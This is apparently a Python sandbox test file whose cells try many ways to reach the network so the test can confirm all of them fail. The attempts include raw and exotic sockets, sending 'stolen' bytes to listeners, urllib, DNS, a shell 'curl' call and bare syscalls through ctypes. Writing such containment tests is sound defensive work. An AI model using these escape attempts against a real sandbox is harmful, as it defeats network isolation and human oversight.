"""Cells that try to send anything to anyone; the test listens, and must hear nothing."""

# ruff: noqa: F821  (cells find `escaped` in their own notebook)

from . import cell


@cell("type", core=True)
def opens_sockets(where):
    import socket

    families = {"tcp": (2, 1), "udp": (2, 2), "raw": (2, 3), "unix": (1, 1), "netlink": (16, 3), "packet": (17, 3)}
    families |= {"ipv6": (10, 1), "vsock": (40, 1), "alg": (38, 5), "bluetooth": (31, 3)}
    attempts = {name: lambda kind=kind: socket.socket(*kind) for name, kind in families.items()}
    return escaped(**attempts, pair=socket.socketpair)


@cell("type", core=True)
def sends_to_listeners(where):
    import socket

    def send(family, kind, address):
        with socket.socket(family, kind) as line:
            line.connect(address)
            line.send(b"stolen")

    return escaped(
        tcp=lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", where["tcp"])),
        udp=lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", where["udp"])),
        abstract=lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + where["abstract"]),
        path=lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, where["path"]),
        world=lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
    )


@cell("type")
def asks_libraries_to_connect(where):
    import asyncio
    import socket
    import urllib.request

    url = f"http://127.0.0.1:{where['tcp']}/"
    return escaped(
        http=lambda: urllib.request.urlopen(url, timeout=1),
        name=lambda: socket.gethostbyname("example.org"),
        loop=lambda: asyncio.run(asyncio.open_connection("127.0.0.1", where["tcp"])),
        shell=lambda: __import__("os").system(f"curl {url}") and 1 / 0,
    )


@cell("type")
def sends_by_bare_system_calls(where):
    import ctypes

    libc = ctypes.CDLL(None)

    def call(number, *arguments):
        if libc.syscall(number, *arguments) < 0:
            raise OSError

    return escaped(
        socket=lambda: call(41, 2, 1, 0),
        pair=lambda: call(53, 1, 1, 0, ctypes.create_string_buffer(8)),
        ring=lambda: call(425, 8, ctypes.create_string_buffer(256)),
        send=lambda: call(44, 1, b"x", 1, 0, 0, 0),
    )
